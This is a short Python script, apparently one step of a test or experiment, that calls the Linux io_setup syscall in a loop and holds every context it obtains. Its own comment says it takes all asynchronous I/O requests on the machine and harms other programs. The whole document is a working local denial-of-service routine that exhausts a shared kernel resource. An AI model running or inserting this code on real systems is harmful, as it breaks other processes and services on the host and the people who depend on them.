# Takes all asynchronous requests that the machine has for everybody. Keeps: a b. Harms: other programs.
# %% step_c
import ctypes, os, time
libc, kept = ctypes.CDLL(None), []
for size in (30000, 4000, 500, 50):
    context = ctypes.c_ulong(0)
    while libc.syscall(206, size, ctypes.byref(context)) == 0:     # io_setup
        kept.append(context)
        context = ctypes.c_ulong(0)
time.sleep(1)
